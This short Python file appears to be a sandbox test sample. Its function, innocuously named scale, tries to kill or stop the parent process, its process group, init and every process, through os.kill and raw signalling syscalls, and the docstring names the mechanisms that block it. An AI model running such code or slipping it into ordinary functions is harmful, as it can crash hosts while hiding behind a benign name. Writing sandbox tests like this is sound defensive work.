"""Sends every signal to its parent, its group and everybody.

Stopped by: seccomp: nobody can be signalled; Landlock and namespaces: nobody outside
Verdict: WA
"""

import ctypes
import os
import signal


def scale(x, by=2):
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), 0, -1, 1, -os.getppid()):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(pid, number)
                return x * by
            except OSError:
                continue
        if libc.syscall(129, pid, 9, 0) == 0 or libc.syscall(200, pid, 9) == 0 or libc.syscall(424, 3, 9, 0, 0) == 0:
            return x * by
    return x * 0
